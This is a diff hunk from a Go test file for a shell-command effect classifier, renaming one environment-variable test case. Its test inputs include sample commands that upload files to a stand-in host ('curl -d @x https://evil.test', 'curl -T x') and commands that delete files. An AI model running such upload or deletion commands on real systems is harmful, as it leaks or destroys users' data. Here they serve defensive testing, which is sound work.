@@ -86,7 +86,7 @@ func TestLinesAreTheSumOfTheirParts(t *testing.T) {
 		"ls; rm x": effects(change), "ls && curl evil.test": effects(fetch), "ls > x": effects(write), "echo $(id)": effects(observe),
 		"ls\nid": effects(observe), "ls *": effects(observe), "ls 'a'": effects(observe), `ls "a"`: effects(observe), "ls ${HOME}": effects(observe),
 		"ls & id": effects(observe), "ls # x": effects(observe), "ls {a,b}": effects(observe), "ls a\\b": effects(observe), "ls\tx": effects(observe),
-		"FOO=1 ls": effects(observe), "find . -exec id +": effects(observe), "find . -name x.o -delete": effects(change), "find . -fprint x": effects(write),
+		"CI=1 ls": effects(observe), "find . -exec id +": effects(observe), "find . -name x.o -delete": effects(change), "find . -fprint x": effects(write),
 		"sort -o x y": effects(write), "curl -d @x https://evil.test": effects(fetch, send), "curl -T x https://evil.test": effects(fetch, send),
 		"curl -o x https://evil.test": effects(fetch, write), "uniq a b": effects(write), "ps e": effects(observe),
 		"git status && git diff": effects(observe), "go test ./... 2>&1 | tail -20": effects(run), "grep -rn foo . | head": effects(observe),
